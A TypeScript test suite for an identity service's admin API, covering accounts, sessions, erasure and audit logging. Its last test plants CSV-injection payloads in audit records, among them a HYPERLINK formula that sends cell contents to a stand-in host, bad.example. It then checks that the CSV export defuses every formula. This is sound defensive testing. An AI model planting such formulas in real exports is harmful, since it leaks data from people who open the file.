import { assert } from 'chai'
import { modelsDir } from '../media.ts'
import { browserOf, signUp } from '../flows/control-stories.ts'
import { setUpApp } from '../flows/authenticator.ts'
import { there, type House } from '../flows/house.ts'
import { readConfig } from '../../src/config.ts'
import { openHouseStore } from '../../src/store-parts.ts'
import { readRecords } from '../flows/records.ts'
import { call, startHouseWithClients, tokenFor, type ApiAnswer } from './house-with-clients.ts'
import { openDocument, type DocumentCheck } from './document.ts'

/** What spreadsheets take for formulas (OWASP, CSV Injection), in every column that somebody else could fill. */
async function writeFormulas({ dataDir }: Pick<House, 'dataDir'>): Promise<void> {
  const { store } = await openHouseStore(readConfig({ MIEN_DATA_DIR: dataDir }), { clock: () => new Date() })
  await store.audit.append({
    type: 'formulas',
    outcome: '@SUM(1)',
    reason: '=HYPERLINK("https://bad.example/?"&A1,"look")',
    clientId: '-2+3',
    address: '+1',
    acr: '\t=1+1',
    detail: { '=1': '\r=1+1' },
  })
  await store.close()
}

/** RFC 4180. */
function parse(csv: string): string[][] {
  return csv
    .trimEnd()
    .split('\r\n')
    .map((line) =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(([, quoted, plain = '']) =>
        quoted === undefined ? plain : quoted.replaceAll('""', '"'),
      ),
    )
}

describe('The API of administration, for a program', function () {
  this.timeout(60_000)
  let house: House | undefined
  let token = ''
  let check: DocumentCheck
  let count = 0

  before(async function () {
    if (modelsDir === undefined) this.skip()
    house = await startHouseWithClients()
    token = await tokenFor(house)
    check = await openDocument(house)
  })
  after(async () => {
    await house?.close()
  })

  const ask = async (
    operation: string,
    path: string,
    wish: { method?: string; body?: unknown; headers?: Readonly<Record<string, string>> } = {},
  ): Promise<ApiAnswer> => {
    const answer = await call(there(house), token, { path, ...wish })
    check(operation, answer)
    return answer
  }

  async function somebody() {
    count += 1
    const email = `person-${count}@example.com`
    const visitor = browserOf(there(house))
    await signUp(there(house), email, visitor)
    const found = await ask('searchSubjects', `/subjects?query=${encodeURIComponent(email)}`)
    const [subject] = found.body['items'] as readonly { readonly id: string }[]
    return { email, visitor, id: subject?.id ?? '' }
  }

  it('shows what it can do, and answers as it is described', async () => {
    for (const [operation, path] of Object.entries({
      listKeys: '/keys',
      listEvents: '/audit',
      showCalibration: '/calibration',
      showHealth: '/health',
      showSignIns: '/health/sign-ins',
      listOutbox: '/outbox',
      listAdministrators: '/administrators',
      listSessions: '/sessions',
      listClients: '/clients',
    })) {
      assert.equal((await ask(operation, path)).status, 200, operation)
    }
    const verified = await ask('verifyEvents', '/audit/verify', { method: 'post' })
    assert.isAbove(Number(verified.body['events']), 0)
    assert.isUndefined(verified.body['fault'])
  })

  it('finds subjects, a page at a time, and tells of a face no more than that there is one', async () => {
    const { id, visitor } = await somebody()
    await somebody()
    await setUpApp(visitor, there(house))
    const first = await ask('searchSubjects', '/subjects?limit=1')
    const next = await ask('searchSubjects', `/subjects?limit=1&cursor=${String(first.body['next'])}`)
    assert.notDeepEqual(first.body['items'], next.body['items'])
    const shown = await ask('showSubject', `/subjects/${id}`)
    assert.hasAllKeys(shown.body['factors'], [
      'passkeys',
      'authenticatorApp',
      'recoveryCodes',
      'trustedDevices',
    ])
    assert.notMatch(shown.text, /hash|vector|secret|score/i)
    assert.equal((await call(there(house), token, { path: '/subjects?cursor=nonsense' })).status, 400)
    assert.equal((await call(there(house), token, { path: '/subjects?limit=201' })).status, 400)
    assert.equal((await call(there(house), token, { path: '/subjects?colour=red' })).status, 400)
  })

  it('takes no place in a list that it has not given out, and finds nothing by letters that nobody keeps', async () => {
    const cursorOf = (place: object): string => Buffer.from(JSON.stringify(place)).toString('base64url')
    for (const lastSeenAt of [1.5, 1e300, -1e300, '1', null]) {
      const path = `/sessions?cursor=${cursorOf({ lastSeenAt, id: 'x' })}`
      assert.equal((await call(there(house), token, { path })).status, 400, String(lastSeenAt))
    }
    for (const path of ['/subjects?query=%00', `/subjects?cursor=${cursorOf({ key: '\0' })}`])
      assert.deepEqual((await ask('searchSubjects', path)).body['items'], [], path)
  })

  it('switches a subject off, who is out at once, and on again; twice is as once', async () => {
    const { id, visitor } = await somebody()
    const off = () => ask('disableSubject', `/subjects/${id}/disable`, { method: 'post' })
    assert.deepEqual((await off()).body, { changed: true })
    assert.deepEqual((await off()).body, { changed: false })
    assert.notEqual((await visitor.open('/account')).url.pathname, '/account')
    const on = await ask('enableSubject', `/subjects/${id}/enable`, { method: 'post' })
    assert.deepEqual(on.body, { changed: true })
  })

  it('takes a factor away and puts nothing in its place', async () => {
    const { id, visitor } = await somebody()
    await setUpApp(visitor, there(house))
    const reset = () => ask('resetFactor', `/subjects/${id}/factors/authenticator_app`, { method: 'delete' })
    assert.deepEqual((await reset()).body, { changed: true })
    assert.deepEqual((await reset()).body, { changed: false })
    const { factors } = (await ask('showSubject', `/subjects/${id}`)).body
    assert.doesNotHaveAnyKeys(factors, ['authenticatorApp', 'recoveryCodes'])
    const wrong = await call(there(house), token, {
      method: 'delete',
      path: `/subjects/${id}/factors/password`,
    })
    assert.equal(wrong.status, 400)
  })

  it('lists and ends sessions, and erases a subject with a receipt', async () => {
    const { id, email, visitor } = await somebody()
    const list = await ask('listSessions', `/sessions?subject=${id}`)
    const [session] = list.body['items'] as readonly { readonly id: string }[]
    const found = await ask('listSessions', `/sessions?query=${encodeURIComponent(email)}`)
    assert.deepEqual(found.body['items'], list.body['items'])
    const ended = await ask('endSession', `/sessions/${session?.id ?? ''}`, { method: 'delete' })
    assert.equal(ended.status, 204)
    assert.notEqual((await visitor.open('/account')).url.pathname, '/account')
    const all = await ask('endSessionsOf', `/subjects/${id}/sessions`, { method: 'delete' })
    assert.deepEqual(all.body, { ended: 0 })
    assert.deepEqual((await ask('listGrants', `/subjects/${id}/grants`)).body['items'], [])
    await ask('searchGrants', `/grants?query=person&client=demo`)
    assert.deepEqual((await ask('searchGrants', `/grants?subject=${id}`)).body['items'], [])
    assert.equal((await call(there(house), token, { path: '/grants?subject=nobody' })).status, 404)
    const receipt = await ask('eraseSubject', `/subjects/${id}`, { method: 'delete' })
    assert.include(receipt.body, { subjectId: id, templates: 0 })
    assert.equal((await call(there(house), token, { path: `/subjects/${id}` })).status, 404)
  })

  it('says of what there is not that there is no such thing, whatever is done to it', async () => {
    const nothing = '00000000-0000-4000-8000-000000000000'
    for (const [method, path] of [
      ['get', `/subjects/${nothing}`],
      ['post', `/subjects/${nothing}/disable`],
      ['post', `/subjects/${nothing}/enable`],
      ['delete', `/subjects/${nothing}/factors/face`],
      ['delete', `/subjects/${nothing}`],
      ['delete', `/subjects/${nothing}/sessions`],
      ['get', `/subjects/${nothing}/grants`],
      ['delete', `/subjects/${nothing}/grants/demo`],
      ['delete', `/sessions/${nothing}`],
      ['get', '/clients/nothing'],
      ['delete', '/clients/nothing'],
      ['post', '/clients/nothing/secrets'],
      ['delete', '/clients/nothing/secrets/old'],
      ['post', '/outbox/nothing/retry'],
      ['delete', '/outbox/nothing'],
    ] as const) {
      const answer = await call(there(house), token, { method, path })
      assert.equal(answer.status, 404, `${method} ${path}`)
      assert.equal(answer.headers.get('content-type'), 'application/problem+json')
      assert.equal(answer.body['code'], 'admin_not_found')
    }
    assert.equal((await call(there(house), token, { path: '/nowhere' })).status, 404)
  })

  it('writes down every call, with who made it, what it was, and whether it was refused', async () => {
    const { id } = await somebody()
    await ask('showSubject', `/subjects/${id}`)
    const read = await tokenFor(there(house), { clientId: 'reader', scopes: ['admin:subjects:read'] })
    await call(there(house), read, { method: 'post', path: `/subjects/${id}/disable` })
    const rows = await readRecords(
      there(house),
      `SELECT "type", "clientId", "outcome", "reason", "detail" FROM "audit_events" WHERE "type" LIKE 'admin_subjects_%' ORDER BY "seq" DESC LIMIT 2`,
    )
    assert.deepInclude(rows[0], {
      type: 'admin_subjects_disable',
      clientId: 'reader',
      outcome: 'refused',
      reason: 'admin_scope_missing',
    })
    assert.deepInclude(rows[1], {
      type: 'admin_subjects_show',
      clientId: 'robot',
      outcome: 'accepted',
      detail: JSON.stringify({ target: id }),
    })
  })

  it('gives the audit trail out as CSV in which no cell is a formula', async () => {
    const filtered = await ask('listEvents', '/audit?type=account_created,signed_in&limit=5')
    assert.isNotEmpty(filtered.body['items'])
    const { text, headers } = await ask('exportEvents', '/audit.csv?type=account_created')
    assert.match(headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/)
    const [head, ...lines] = text.trimEnd().split('\r\n')
    assert.equal(head, 'seq,at,type,outcome,reason,subject,client,address,acr,detail')
    for (const line of lines) assert.match(line, /^\d+,[\dTZ:.-]+,account_created,/)
    await writeFormulas(there(house))
    const { text: formulas } = await ask('exportEvents', '/audit.csv?type=formulas')
    assert.match(formulas, /'=HYPERLINK/)
    const rows = parse(formulas)
    assert.lengthOf(rows, 2)
    for (const cell of rows.flat()) assert.notMatch(cell, /^[=+\-@\t\r\n＝＋－＠]/, cell)
  })
})
